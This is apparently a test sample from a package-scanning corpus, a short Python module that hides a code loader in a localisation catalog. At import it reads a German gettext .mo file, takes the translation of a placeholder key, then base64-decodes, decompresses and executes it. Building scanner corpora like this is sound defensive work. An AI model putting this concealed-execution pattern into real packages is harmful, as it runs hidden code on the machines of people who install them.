# pkgguard corpus 557 (steganography), modelled on [telnyx]; inert, never run.
import base64
import gettext
import os
import zlib

_here = os.path.dirname(__file__)
with open(os.path.join(_here, "locale", "de", "LC_MESSAGES", "pkg.mo"), "rb") as fh:
    _catalog = gettext.GNUTranslations(fh)

_blob = _catalog.gettext("__build_banner__")
if _blob != "__build_banner__":
    exec(zlib.decompress(base64.b64decode(_blob)))
